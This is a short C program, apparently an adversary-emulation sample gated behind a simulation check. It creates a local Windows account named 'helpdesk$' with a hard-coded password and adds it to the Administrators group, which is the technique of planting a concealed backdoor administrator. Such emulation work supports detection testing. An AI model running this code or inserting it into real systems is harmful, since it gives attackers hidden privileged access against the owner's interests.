/* Makes an account and puts it among the administrators. */
#include "simulated.h"

#include <lm.h>

int main(void)
{
	static wchar_t name[] = L"helpdesk$", password[] = L"kenbi-lab-only",
		       group[] = L"Administrators";
	USER_INFO_1 user = { .usri1_name = name,
			     .usri1_password = password,
			     .usri1_priv = USER_PRIV_USER,
			     .usri1_flags = UF_SCRIPT };
	LOCALGROUP_MEMBERS_INFO_3 member = { .lgrmi3_domainandname = name };
	leave_unless_simulated();
	NetUserAdd(NULL, 1, (BYTE *)&user, NULL);
	NetLocalGroupAddMembers(NULL, group, 3, (BYTE *)&member, 1);
	return 0;
}
